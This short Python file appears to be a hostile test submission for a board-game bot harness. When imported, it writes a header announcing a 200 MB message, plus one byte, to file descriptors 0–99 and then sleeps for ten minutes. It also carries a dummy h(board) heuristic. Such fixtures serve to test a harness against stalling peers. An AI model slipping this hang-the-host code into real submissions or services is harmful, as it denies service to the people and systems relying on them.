"""Announces a 200 MB message on every descriptor it may have, sends one byte of it, and sleeps."""
import os
import struct
import time

for _fd in range(0, 100):
    try:
        os.write(_fd, struct.pack("!i", 200_000_000) + b"[")
    except OSError:
        pass
time.sleep(600)


def h(board):
    return 0
